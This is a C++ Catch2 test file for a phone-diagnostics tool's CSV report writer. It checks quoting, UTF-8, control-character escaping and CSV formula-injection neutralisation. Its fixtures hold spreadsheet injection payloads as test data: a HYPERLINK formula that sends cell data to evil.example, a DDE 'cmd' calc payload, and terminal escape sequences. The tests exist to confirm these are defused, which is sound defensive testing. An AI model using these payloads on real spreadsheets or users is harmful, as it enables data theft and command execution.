#include <report/csv.hpp>
#include <storage/utf8.hpp>
#include <tests/report/report_support.hpp>
#include <util/csv_cell.hpp>

#include <catch2/catch.hpp>

#include <cstdlib>
#include <fstream>
#include <map>
#include <sstream>

using diagnosis::RootCause;
using report_test::Table;
using storage::PhoneRecord;
using test_support::TempDir;

namespace {

constexpr std::array<std::string_view, 13> contract{
    "device_name", "address",   "model",    "site",     "root_cause", "detail",    "itl_state",
    "phone_error", "cucm_auth", "auth_url", "firmware", "serial",     "checked_at"};

bool formula_like(std::string_view cell) {
  return !cell.empty() && std::string_view("=+-@\t\r").find(cell.front()) != std::string_view::npos;
}

// What a cell must read as after the round trip: the value, or the value behind a quote.
std::string shown(const std::string& value) { return formula_like(value) ? "'" + value : value; }

std::vector<PhoneRecord> awkward_records() {
  std::vector<PhoneRecord> records;
  records.push_back(test_support::awkward_record());

  auto formulas = test_support::sample_record(2, RootCause::auth_failed, "+1");
  formulas.target.device_name = R"(=HYPERLINK("http://evil.example/?x="&A1,"click"))";
  formulas.target.description = "-2";
  formulas.outcome.detail = "@SUM(A1:A9)";
  formulas.evidence.device.firmware = "\t=cmd|' /C calc'!A0";
  formulas.evidence.device.serial = "\rCR first";
  formulas.evidence.auth_url = "+cmd";
  records.push_back(formulas);

  auto separators = test_support::sample_record(3, RootCause::itl_trust, "Genève, \"Rive\"");
  separators.target.device_name = "SEP001122334455";
  separators.target.description = "line one\nline two\r\nline three\rend, with \"quotes\" and ,commas,";
  separators.outcome.detail = "a 1-2 range = fine; not at the start";
  separators.evidence.device.firmware = "日本語 ✓ 🙂";
  records.push_back(separators);

  auto empty = test_support::sample_record(4, RootCause::unreachable, "");
  empty.target.device_name.clear();
  empty.target.model.clear();
  empty.outcome.detail.clear();
  records.push_back(empty);
  return records;
}

struct Written {
  std::string raw;
  Table table;
  std::map<std::string, std::size_t> column; // header name to index
};

Written write_and_parse(storage::Database& db, std::int64_t run, const std::string& path) {
  {
    std::ofstream out(path, std::ios::binary);
    report::write_csv(out, db, run);
    REQUIRE(out.good());
  }
  Written w;
  w.raw = report_test::read_file(path);
  auto table = report_test::parse_rfc4180(w.raw);
  REQUIRE(table);
  w.table = std::move(*table);
  REQUIRE_FALSE(w.table.empty());
  for (std::size_t i = 0; i < w.table[0].size(); ++i) w.column[w.table[0][i]] = i;
  return w;
}

bool python_csv_available() { return std::system("python3 -c 'import csv' >/dev/null 2>&1") == 0; }

// Python's csv module reads the file (strict UTF-8) and prints every field as hex, one record a
// line: an implementation that shares nothing with ours.
std::optional<Table> parse_with_python(const TempDir& dir, const std::string& csv_path) {
  const auto script = dir.file("read.py");
  const auto output = dir.file("fields.txt");
  std::ofstream(script) << "import csv, sys\n"
                           "with open(sys.argv[1], newline='', encoding='utf-8', errors='strict') as f:\n"
                           "    rows = list(csv.reader(f, strict=True))\n"
                           "with open(sys.argv[2], 'w') as out:\n"
                           "    for row in rows:\n"
                           "        out.write(' '.join('x' + c.encode('utf-8').hex() for c in row) + '\\n')\n";
  if (std::system(("python3 '" + script + "' '" + csv_path + "' '" + output + "'").c_str()) != 0) return std::nullopt;
  Table table;
  std::istringstream lines(report_test::read_file(output));
  std::string line;
  while (std::getline(lines, line)) {
    std::vector<std::string> record;
    std::istringstream words(line);
    std::string word;
    while (words >> word) {
      std::string bytes;
      for (std::size_t i = 1; i + 1 < word.size(); i += 2)
        bytes += static_cast<char>(std::stoi(word.substr(i, 2), nullptr, 16));
      record.push_back(bytes);
    }
    table.push_back(std::move(record));
  }
  return table;
}

} // namespace

TEST_CASE("neutralise_formula and csv_cell", "[report][csv]") {
  for (const std::string cell : {"=1+2", "+1", "-2", "@SUM(A1)", "\tx", "\rx"})
    CHECK(util::neutralise_formula(cell) == "'" + cell);
  for (const std::string cell : {"", "1-2", "a=b", "'quoted", " =1", "SEP001122334455"})
    CHECK(util::neutralise_formula(cell) == cell);
  CHECK(util::csv_cell("plain", util::Formulas::neutralised) == "plain");
  CHECK(util::csv_cell("a,b", util::Formulas::neutralised) == "\"a,b\"");
  CHECK(util::csv_cell("say \"hi\"", util::Formulas::neutralised) == "\"say \"\"hi\"\"\"");
  CHECK(util::csv_cell("two\nlines", util::Formulas::neutralised) == "\"two\nlines\"");
  CHECK(util::csv_cell("-1,2", util::Formulas::neutralised) == "\"'-1,2\"");
}

TEST_CASE("the CSV round-trips every field through an independent RFC 4180 parser", "[report][csv]") {
  TempDir dir;
  auto db = report_test::open_db(dir.file("sweep.db"));
  const auto records = awkward_records();
  const auto run = report_test::add_run(db, records);
  const auto path = dir.file("run.csv");
  const auto w = write_and_parse(db, run, path);

  SECTION("header: the contract columns first, in order, then the extras") {
    const auto& header = w.table[0];
    REQUIRE(header.size() >= contract.size());
    for (std::size_t i = 0; i < contract.size(); ++i) CHECK(header[i] == contract[i]);
    CHECK(w.column.count("description") == 1);
    CHECK(header.size() == report::csv_columns().size());
    CHECK(w.raw.rfind("device_name,address,model,site,root_cause,detail,itl_state,phone_error,"
                      "cucm_auth,auth_url,firmware,serial,checked_at,",
                      0) == 0);
  }

  SECTION("UTF-8, CRLF, one record per phone, every record as wide as the header") {
    CHECK(storage::is_valid_utf8(w.raw));
    CHECK(w.raw.substr(w.raw.size() - 2) == "\r\n");
    REQUIRE(w.table.size() == records.size() + 1);
    for (const auto& record : w.table) CHECK(record.size() == w.table[0].size());
  }

  SECTION("every field reads back as stored, formula-like cells behind a quote") {
    std::map<std::string, const std::vector<std::string>*> by_address;
    for (std::size_t i = 1; i < w.table.size(); ++i) {
      const auto& address = w.table[i][w.column.at("address")];
      by_address[address] = &w.table[i];
    }
    for (const auto& record : records) {
      const auto address = record.target.address();
      CAPTURE(address);
      REQUIRE(by_address.count(address) == 1);
      const auto& row = *by_address.at(address);
      const auto cell = [&](const char* name) { return row[w.column.at(name)]; };
      const auto device_name =
          record.target.device_name.empty() ? record.evidence.device.host_name : record.target.device_name;
      const auto model = record.evidence.device.model.empty() ? record.target.model : record.evidence.device.model;
      CHECK(cell("device_name") == shown(device_name));
      CHECK(cell("model") == shown(model));
      CHECK(cell("site") == shown(record.target.site));
      CHECK(cell("root_cause") == diagnosis::to_string(record.outcome.cause));
      CHECK(cell("detail") == shown(record.outcome.detail));
      CHECK(cell("itl_state") == diagnosis::to_string(record.evidence.itl));
      CHECK(cell("phone_error") == (record.evidence.phone_error ? std::to_string(record.evidence.phone_error) : ""));
      CHECK(cell("cucm_auth") == diagnosis::to_string(record.evidence.cucm));
      CHECK(cell("auth_url") == shown(record.evidence.auth_url));
      CHECK(cell("firmware") == shown(record.evidence.device.firmware));
      CHECK(cell("serial") == shown(record.evidence.device.serial));
      CHECK(cell("checked_at") == record.checked_at);
      CHECK(cell("description") == shown(record.target.description));
    }
  }

  SECTION("no cell of the file is a formula") {
    std::size_t neutralised = 0;
    for (const auto& record : w.table)
      for (const auto& field : record) {
        CAPTURE(field);
        CHECK_FALSE(formula_like(field));
        if (field.size() > 1 && field[0] == '\'' && formula_like(field.substr(1))) ++neutralised;
      }
    CHECK(neutralised == 7); // =HYPERLINK, -2, @SUM, TAB, CR, +cmd, and the site +1
  }

  SECTION("Python's csv module reads the same table") {
    if (!python_csv_available()) {
      WARN("python3 with csv not found: cross-check skipped");
      return;
    }
    const auto python = parse_with_python(dir, path);
    REQUIRE(python);
    CHECK(*python == w.table);
  }
}

TEST_CASE("bytes that are not UTF-8 reach the CSV as U+FFFD", "[report][csv]") {
  TempDir dir;
  auto db = report_test::open_db(dir.file("sweep.db"));
  auto record = test_support::sample_record(1);
  record.target.site = "Z\xFCrich"; // Latin-1
  const auto run = report_test::add_run(db, {record});
  const auto w = write_and_parse(db, run, dir.file("run.csv"));
  CHECK(storage::is_valid_utf8(w.raw));
  CHECK(w.table.at(1).at(w.column.at("site")) == "Z\xEF\xBF\xBDrich");
}

TEST_CASE("an optional BOM, and an error for a run that does not exist", "[report][csv]") {
  TempDir dir;
  auto db = report_test::open_db(dir.file("sweep.db"));
  const auto run = report_test::add_run(db, {test_support::sample_record(1)});
  std::ostringstream with_bom;
  report::write_csv(with_bom, db, run, {true});
  CHECK(with_bom.str().rfind("\xEF\xBB\xBF"
                             "device_name,",
                             0) == 0);
  std::ostringstream out;
  CHECK_THROWS_AS(report::write_csv(out, db, run + 1), storage::Error);
  CHECK_THROWS_AS(report::write_site_csv(out, db, run + 1), storage::Error);
}

TEST_CASE("the per-site CSV counts phones per root cause", "[report][csv]") {
  TempDir dir;
  auto db = report_test::open_db(dir.file("sweep.db"));
  const auto run = report_test::add_run(db, {test_support::sample_record(1, RootCause::ok, "Bern"),
                                             test_support::sample_record(2, RootCause::ok, "Bern"),
                                             test_support::sample_record(3, RootCause::itl_trust, "Bern"),
                                             test_support::sample_record(4, RootCause::unreachable, "=Basel, \"old\""),
                                             test_support::sample_record(5, RootCause::bad_response, "")});
  std::ostringstream out;
  report::write_site_csv(out, db, run);
  const auto table = report_test::parse_rfc4180(out.str());
  REQUIRE(table);
  REQUIRE(table->size() == 4);
  const auto& header = (*table)[0];
  REQUIRE(header.size() == 2 + static_cast<std::size_t>(diagnosis::root_cause_count));
  CHECK(header[0] == "site");
  CHECK(header[1] == "phones");
  CHECK(header[2] == "ok");
  for (int i = 1; i < diagnosis::root_cause_count; ++i)
    CHECK(header[static_cast<std::size_t>(i) + 2] == diagnosis::to_string(static_cast<RootCause>(i)));

  std::map<std::string, std::map<std::string, std::string>> sites;
  for (std::size_t r = 1; r < table->size(); ++r)
    for (std::size_t c = 1; c < header.size(); ++c) sites[(*table)[r][0]][header[c]] = (*table)[r][c];
  REQUIRE(sites.size() == 3);
  CHECK(sites.at("Bern").at("phones") == "3");
  CHECK(sites.at("Bern").at("ok") == "2");
  CHECK(sites.at("Bern").at("itl_trust") == "1");
  CHECK(sites.at("Bern").at("unreachable") == "0");
  CHECK(sites.at("'=Basel, \"old\"").at("unreachable") == "1"); // neutralised, quoted
  CHECK(sites.at("").at("bad_response") == "1");
  CHECK(sites.at("").at("phones") == "1");
}

TEST_CASE("control characters and NUL reach the CSV escaped, so no cell can drive a terminal", "[report][csv]") {
  TempDir dir;
  auto db = report_test::open_db(dir.file("sweep.db"));
  auto record = test_support::sample_record(1);
  record.target.description = std::string("bell\a esc\x1b[31mred nul\0end", 25);
  record.outcome.detail = "c1 \xC2\x9B"
                          "2J del\x7F, tab\tstays";
  record.target.site = "-\x1b]0;title\a";
  const auto run = report_test::add_run(db, {record});
  const auto w = write_and_parse(db, run, dir.file("run.csv"));
  for (const char c : w.raw) {
    const auto byte = static_cast<unsigned char>(c);
    CHECK((byte >= 0x20 || c == '\t' || c == '\r' || c == '\n'));
    CHECK(byte != 0x7F);
  }
  CHECK(w.raw.find("\xC2\x9B") == std::string::npos);
  const auto& row = w.table.at(1);
  CHECK(row.at(w.column.at("description")) == "bell\\x07 esc\\x1b[31mred nul\\x00end");
  CHECK(row.at(w.column.at("detail")) == "c1 \\u009b2J del\\x7f, tab\tstays");
  CHECK(row.at(w.column.at("site")) == "'-\\x1b]0;title\\x07"); // still neutralised as a formula

  std::ostringstream sites;
  report::write_site_csv(sites, db, run);
  CHECK(sites.str().find('\x1b') == std::string::npos);
}

TEST_CASE("one model is one name whoever named it, and a silent phone keeps the firmware discovery reported, marked",
          "[report][csv][model]") {
  TempDir dir;
  auto db = report_test::open_db(dir.file("r.db"));
  auto silent = test_support::sample_record(1, RootCause::timeout);
  silent.target.model = "Cisco 8841"; // AXL's spelling, via discover
  silent.target.extra = {{"registration", "registered"}, {"firmware", "sip88xx.14-2-1-0001-14"}};
  silent.evidence.screenshot = diagnosis::ScreenshotAnswer::not_tried;
  auto answered = test_support::sample_record(2);
  answered.target.model = "Cisco 8841";
  answered.evidence.device.model = "CP-8841"; // the phone's own
  answered.evidence.device.firmware = "sip88xx.14-2-1-0001-14";
  const auto run = report_test::add_run(db, {silent, answered});
  std::ostringstream out;
  report::write_csv(out, db, run);
  const auto table = report_test::parse_rfc4180(out.str());
  REQUIRE(table);
  REQUIRE(table->size() == 3);
  std::map<std::string, std::vector<std::string>> by_address;
  for (const auto& row : *table) by_address[row[1]] = row;
  const auto& a = by_address.at(silent.target.address());
  const auto& b = by_address.at(answered.target.address());
  CHECK(a[2] == "CP-8841");
  CHECK(b[2] == "CP-8841");
  CHECK(a[10] == "sip88xx.14-2-1-0001-14 (CUCM)");
  CHECK(b[10] == "sip88xx.14-2-1-0001-14");
}

TEST_CASE("a phone row carries RisPort's registration, time, node, address and load after the contract columns",
          "[report][csv]") {
  PhoneRecord record = test_support::sample_record(1, RootCause::unregistered);
  record.evidence.device.firmware = "sip88xx.14-1-1-0001-136";
  record.target.extra = {{"registration", "registered"},
                         {"room", "B-12"},
                         {"registration", "unregistered"},
                         {"httpd", "yes"},
                         {"registered_ip", "10.1.9.7"},
                         {"cucm_node", "cucm-sub2"},
                         {"registered_at", "2024-05-28T12:40:00Z"},
                         {"active_load", "sip88xx.14-2-1-0001-14"}};
  const report::Row row = report::make_row(record);
  CHECK(row.registration == "unregistered"); // the lookup's column comes last and counts
  CHECK(row.registered_at == "2024-05-28T12:40:00Z");
  CHECK(row.cucm_node == "cucm-sub2");
  CHECK(row.registered_ip == "10.1.9.7");
  CHECK(row.active_load == "sip88xx.14-2-1-0001-14");
  const auto names = report::csv_columns();
  const std::vector<std::string_view> tail(names.end() - 5, names.end());
  CHECK(tail ==
        std::vector<std::string_view>{"registration", "registered_at", "cucm_node", "registered_ip", "active_load"});
  CHECK(report::make_row(test_support::sample_record(2)).registration.empty()); // RisPort not asked: empty cells
}
